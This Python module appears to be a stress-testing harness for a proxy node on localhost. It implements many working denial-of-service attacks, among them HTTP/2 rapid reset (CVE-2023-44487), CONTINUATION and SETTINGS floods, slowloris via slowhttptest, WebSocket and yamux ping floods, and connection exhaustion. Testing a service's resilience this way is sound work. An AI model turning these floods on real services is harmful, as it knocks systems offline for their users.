"""What an attacker does, with plain sockets and blocking calls. `python -m perf.attacks.weapons NAME …` runs one.

Each attacks as hard as it can until its time is over. Responses are read, unless not reading them is the attack. A
connection that the node closes is reopened after a moment.
"""

import contextlib
import os
import select
import socket
import ssl
import struct
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import click
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import StreamEnded
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

from perf.priority import ATTACKERS, prioritize

ATTACKED = "attacked"  # the endpoint that has an agent and a service
UPGRADE = (
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
NO_MASK = bytes(4)  # a mask of zeros is a mask
AGAIN_SECONDS = 0.05
SLOWHTTPTEST = "slowhttptest"  # Debian's package of that name
ADDRESS = "127.0.0.2"  # not the victim's: a node may well shut out an address
YAMUX = struct.Struct(">BBHLL")
WINDOW_UPDATE, PING, SYN = 1, 2, 1
FRAME_HEAD = 9  # bytes, of HTTP/2's


class Aim(NamedTuple):
    """The node's ports, and until when. `token` is shown to both, if there is one."""

    proxy: int
    upstream: int
    until: float
    token: str = ""

    @property
    def shown(self) -> str:
        """The field that shows the token."""
        return f"Authorization: Bearer {self.token}\r\n" if self.token else ""

    def request(self, endpoint: str, *, method: str = "GET", path: str = "/", fields: str = "") -> bytes:
        """A head as a client sends it."""
        first = f"{method} {path} HTTP/1.1\r\nHost: node.test\r\nx-piko-endpoint: {endpoint}\r\n"
        return f"{first}{self.shown}{fields}\r\n".encode()

    def wait(self) -> None:
        """Do nothing more, until its time is over."""
        time.sleep(max(0.0, self.until - time.monotonic()))


def frame(payload: bytes, *, opcode: int = 2) -> bytes:
    """A WebSocket frame of a client's."""
    size = len(payload)
    length = bytes((0x80 | size,)) if size < 126 else struct.pack(">BH", 0x80 | 126, size)
    return bytes((0x80 | opcode,)) + length + NO_MASK + payload


def flood(sock: socket.socket, aim: Aim, data: bytes, *, read: bool = True) -> None:
    """Send `data` again and again, as fast as it is taken; `read` what comes back, or nothing of it."""
    sock.setblocking(False)
    rest = memoryview(data)
    while time.monotonic() < aim.until:
        readable, writable, _ = select.select([sock] if read else [], [sock], [], 0.2)
        if readable and not sock.recv(1 << 20):
            return
        if writable:
            rest = rest[sock.send(rest) :] or memoryview(data)


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(ADDRESS, 0))


def client(aim: Aim) -> socket.socket:
    return _connected(aim.proxy)


@contextlib.contextmanager
def agent(aim: Aim, endpoint: str = "evil") -> Iterator[socket.socket]:
    """A session of an agent's that serves an endpoint of its own."""
    with _connected(aim.upstream) as sock:
        head = f"GET /piko/v1/upstream/{endpoint} HTTP/1.1\r\nHost: node.test\r\n{aim.shown}"
        sock.sendall(head.encode() + UPGRADE)
        sock.recv(4096)
        yield sock


def pipeline_absent(aim: Aim) -> None:
    with client(aim) as sock:
        flood(sock, aim, aim.request("nobody") * 500)


def pipeline_present(aim: Aim) -> None:
    with client(aim) as sock:
        flood(sock, aim, aim.request(ATTACKED) * 500)


def new_lines(aim: Aim) -> None:
    """Field lines of public names that come twice and not again for long: more of them than a node remembers."""
    heads = []
    for number in range(100):
        lines = (f"Accept: {100 * number + line:0400d}\r\n" for line in range(30))
        heads.append(aim.request("nobody", fields="".join(lines)))
    with client(aim) as sock:
        flood(sock, aim, b"".join(head * 2 for head in heads))


def small_chunks(aim: Aim) -> None:
    with client(aim) as sock:
        sock.sendall(aim.request(ATTACKED, method="POST", fields="Transfer-Encoding: chunked\r\n"))
        flood(sock, aim, b"1\r\nx\r\n" * 10_000)


def small_frames(aim: Aim) -> None:
    with client(aim) as sock:
        head = f"GET /_piko/v1/tcp/{ATTACKED} HTTP/1.1\r\nHost: node.test\r\n{aim.shown}"
        sock.sendall(head.encode() + UPGRADE)
        sock.recv(4096)
        sock.sendall(frame(b"POST"))
        flood(sock, aim, frame(b"x") * 10_000)


def yamux_pings(aim: Aim) -> None:
    with agent(aim) as sock:
        flood(sock, aim, frame(YAMUX.pack(0, PING, SYN, 0, 7) * 5000))


def yamux_pings_deaf(aim: Aim) -> None:
    with agent(aim) as sock:
        flood(sock, aim, frame(YAMUX.pack(0, PING, SYN, 0, 7) * 5000), read=False)


def websocket_pings(aim: Aim) -> None:
    with agent(aim) as sock:
        flood(sock, aim, frame(b"x" * 100, opcode=9) * 500)


def websocket_pings_deaf(aim: Aim) -> None:
    with agent(aim) as sock:
        flood(sock, aim, frame(b"x" * 100, opcode=9) * 500, read=False)


def small_windows(aim: Aim) -> None:
    """Window updates of one byte for a stream that the node has opened, for a client of our own."""
    with agent(aim) as sock, client(aim) as asking:
        asking.sendall(aim.request("evil"))
        time.sleep(0.2)
        flood(sock, aim, frame(YAMUX.pack(0, WINDOW_UPDATE, 0, 2, 1) * 5000))


def accepts(aim: Aim) -> None:
    while time.monotonic() < aim.until:
        client(aim).close()


def handshakes(aim: Aim) -> None:
    """TLS handshakes with the upstream port, which speaks TLS."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    while time.monotonic() < aim.until:
        with _connected(aim.upstream) as sock, context.wrap_socket(sock):
            pass


def large_heads(aim: Aim) -> None:
    fields = "".join(f"x-field-{number}: {'v' * 300}\r\n" for number in range(90))
    with client(aim) as sock:
        flood(sock, aim, aim.request(ATTACKED, fields=fields))


def like_secrets(aim: Aim) -> None:
    """Field values that begin like many secrets, for who looks for those in what he logs."""
    fields = "".join(f"x-field-{number}: eyJ{'://eyJ-' * 900}\r\n" for number in range(4))
    with client(aim) as sock:
        flood(sock, aim, aim.request(ATTACKED, fields=fields))


def bulk(aim: Aim) -> None:
    with client(aim) as sock:
        sock.sendall(aim.request(ATTACKED, path="/bulk"))
        while time.monotonic() < aim.until and sock.recv(1 << 20):
            pass


def aborts(aim: Aim) -> None:
    """Ask, and go without waiting for the answer."""
    while time.monotonic() < aim.until:
        with client(aim) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.sendall(aim.request(ATTACKED))


def slow_readers(aim: Aim, count: int = 125) -> None:
    """Many downloads that are hardly read."""
    with contextlib.ExitStack() as held:
        socks = [held.enter_context(client(aim)) for _ in range(count)]
        for sock in socks:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.sendall(aim.request(ATTACKED, path="/bulk"))
        while time.monotonic() < aim.until:
            time.sleep(1)
            for sock in socks:
                sock.recv(10)


def crowded_agents(aim: Aim, agents: int = 25, clients: int = 150) -> None:
    """Many agents, each with many clients that it does not answer."""
    with contextlib.ExitStack() as held:
        for number in range(agents):
            endpoint = f"crowded-{os.getpid()}-{number}"
            held.enter_context(agent(aim, endpoint))
            for _ in range(clients):
                held.enter_context(client(aim)).sendall(aim.request(endpoint))
        aim.wait()


def silence(aim: Aim, count: int = 100) -> None:
    """Many connections on which nothing is said."""
    with contextlib.ExitStack() as held:
        for _ in range(count):
            held.enter_context(client(aim))
        aim.wait()


def steady(aim: Aim, rate: int = 100) -> None:
    """No attack: so many requests a second."""
    with client(aim) as sock:
        while time.monotonic() < aim.until:
            sock.sendall(aim.request(ATTACKED))
            if not sock.recv(1 << 16):
                return
            time.sleep(1 / rate)


@contextlib.contextmanager
def _http2(aim: Aim, settings: dict[int, int] | None = None) -> Iterator[tuple[socket.socket, H2Connection]]:
    """A connection of HTTP/2 by prior knowledge, which has said its settings."""
    h2 = H2Connection(H2Configuration())
    h2.initiate_connection()
    if settings:
        h2.update_settings(settings)
    with client(aim) as sock:
        sock.sendall(h2.data_to_send())
        yield sock, h2


def _http2_head(aim: Aim, h2: H2Connection, stream: int, path: str = "/") -> bytes:
    """A request of HTTP/2 without a body."""
    fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", f"{ATTACKED}.test")]
    if aim.token:
        fields.append(("authorization", f"Bearer {aim.token}"))
    h2.send_headers(stream, fields, end_stream=True)
    return h2.data_to_send()


def http2_resets(aim: Aim) -> None:
    """Ask, and reset at once ("rapid reset", CVE-2023-44487), until the connection is ended."""
    with _http2(aim) as (sock, h2):
        for stream in range(1, 1 << 30, 2):
            head = _http2_head(aim, h2, stream)
            h2.reset_stream(stream, ErrorCodes.CANCEL)
            sock.sendall(head + h2.data_to_send())
            if time.monotonic() > aim.until:
                return


def http2_continuations(aim: Aim) -> None:
    """A head in pieces that does not end."""
    with _http2(aim) as (sock, h2):
        head = HeadersFrame(1, _http2_head(aim, h2, 1)[FRAME_HEAD:]).serialize()
        sock.sendall(head)
        flood(sock, aim, ContinuationFrame(1).serialize() * 500)


def http2_settings(aim: Aim) -> None:
    """Settings that want an answer, again and again."""
    with _http2(aim) as (sock, _):
        flood(sock, aim, SettingsFrame(settings={SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize() * 500)


def http2_slow_reads(aim: Aim, connections: int = 25, streams: int = 100) -> None:
    """Downloads, 100 on each connection, whose windows are all but shut."""
    with contextlib.ExitStack() as held:
        for _ in range(connections):
            sock, h2 = held.enter_context(_http2(aim, {SettingCodes.INITIAL_WINDOW_SIZE: 1}))
            sock.sendall(b"".join(_http2_head(aim, h2, 2 * number + 1, "/bulk") for number in range(streams)))
        aim.wait()


def http2_requests(aim: Aim, streams: int = 100) -> None:
    """No trick: 100 requests at once, and as many again when they are answered."""
    with _http2(aim) as (sock, h2):
        number = 1
        while time.monotonic() < aim.until:
            sock.sendall(b"".join(_http2_head(aim, h2, number + 2 * one) for one in range(streams)))
            number += 2 * streams
            answered = 0
            while answered < streams:
                data = sock.recv(1 << 20)
                if not data:
                    return
                answered += sum(isinstance(event, StreamEnded) for event in h2.receive_data(data))
                sock.sendall(h2.data_to_send())


def unread_uploads(aim: Aim, count: int = 25) -> None:
    """Many large bodies to a service that does not read them."""
    piece = bytes(1 << 18)
    with contextlib.ExitStack() as held:
        socks = [held.enter_context(client(aim)) for _ in range(count)]
        for sock in socks:
            head = aim.request(ATTACKED, method="POST", path="/unread", fields=f"Content-Length: {1 << 40}\r\n")
            sock.sendall(head)
            sock.setblocking(False)
        while time.monotonic() < aim.until:
            _, writable, _ = select.select([], socks, [], 0.2)
            for sock in writable:
                sock.send(piece)


def idle(aim: Aim, count: int = 2500) -> None:
    """Many clients that have asked once, and keep their connections."""
    with contextlib.ExitStack() as held:
        for _ in range(count):
            sock = held.enter_context(client(aim))
            sock.sendall(aim.request(ATTACKED))
            sock.recv(4096)
        aim.wait()


def registrations(aim: Aim) -> None:
    """Register one endpoint after the other, and end each session at once."""
    number = 0
    while time.monotonic() < aim.until:
        number += 1
        with agent(aim, f"evil-{os.getpid()}-{number % 100}"):
            pass


def _slowhttptest(mode: str, *options: str, path: str = "/") -> Callable[[Aim], None]:
    """A thousand connections of slowhttptest, one of whose modes is `mode`."""

    def attack(aim: Aim) -> None:
        seconds = max(1, round(aim.until - time.monotonic()))
        words = [SLOWHTTPTEST, mode, "-c", "1000", "-r", "1000", "-i", "1", "-l", str(seconds), "-p", "30", *options]
        # Its requests have no field for the endpoint. The node is a proxy to it, so it names a host instead.
        place = ["-d", f"127.0.0.1:{aim.proxy}", "-u", f"http://{ATTACKED}.test{path}"]
        subprocess.run([*words, *place], stdout=subprocess.DEVNULL, check=False)

    return attack


WEAPONS: dict[str, Callable[[Aim], None]] = {
    "pipeline-absent": pipeline_absent,
    "pipeline-present": pipeline_present,
    "new-lines": new_lines,
    "small-chunks": small_chunks,
    "small-frames": small_frames,
    "yamux-pings": yamux_pings,
    "yamux-pings-deaf": yamux_pings_deaf,
    "websocket-pings": websocket_pings,
    "websocket-pings-deaf": websocket_pings_deaf,
    "small-windows": small_windows,
    "large-heads": large_heads,
    "like-secrets": like_secrets,
    "bulk": bulk,
    "aborts": aborts,
    "slow-readers": slow_readers,
    "crowded-agents": crowded_agents,
    "silence": silence,
    "unread-uploads": unread_uploads,
    "http2-resets": http2_resets,
    "http2-continuations": http2_continuations,
    "http2-settings": http2_settings,
    "http2-slow-reads": http2_slow_reads,
    "http2-requests": http2_requests,
    "registrations": registrations,
    "idle": idle,
    "slowhttptest-heads": _slowhttptest("-H"),
    "slowhttptest-bodies": _slowhttptest("-B", "-s", "1000000"),
    "slowhttptest-reads": _slowhttptest("-X", "-w", "512", "-y", "1024", "-n", "1", "-z", "16", path="/bulk"),
    "handshakes": handshakes,
    "accepts": accepts,  # last: the ports it has used are taken for a minute
}

NAMED = {"steady": steady, **WEAPONS}


def keep_at_it(weapon: Callable[[Aim], None], aim: Aim) -> None:
    """Use it until its time is over, whatever the node does about it."""
    while time.monotonic() < aim.until:
        with contextlib.suppress(OSError):
            weapon(aim)
        time.sleep(AGAIN_SECONDS)


@click.command()
@click.argument("name", type=click.Choice(sorted(NAMED)))
@click.option("--proxy", type=int, required=True)
@click.option("--upstream", type=int, required=True)
@click.option("--connections", type=int, default=1)
@click.option("--seconds", type=float, default=3.0)
@click.option("--token-file", type=click.Path(path_type=Path), help="The token that is shown to the node.")
def main(name: str, proxy: int, upstream: int, connections: int, seconds: float, token_file: Path | None) -> None:
    """Attack a node on 127.0.0.1, by a thread for each connection."""
    prioritize(0, ATTACKERS)
    aim = Aim(proxy, upstream, time.monotonic() + seconds, token_file.read_text() if token_file else "")
    threads = [threading.Thread(target=keep_at_it, args=(NAMED[name], aim)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
